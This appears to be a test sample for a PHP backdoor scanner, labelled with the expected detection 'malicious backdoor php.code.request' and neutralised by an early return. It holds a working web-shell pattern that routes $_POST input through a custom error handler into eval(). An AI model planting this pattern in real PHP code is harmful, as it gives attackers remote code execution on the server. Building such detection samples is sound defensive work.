<?php return; // want: malicious backdoor php.code.request
function on_error($number, $text) { eval($text); }
set_error_handler('on_error');
trigger_error($_POST['t'], E_USER_ERROR);
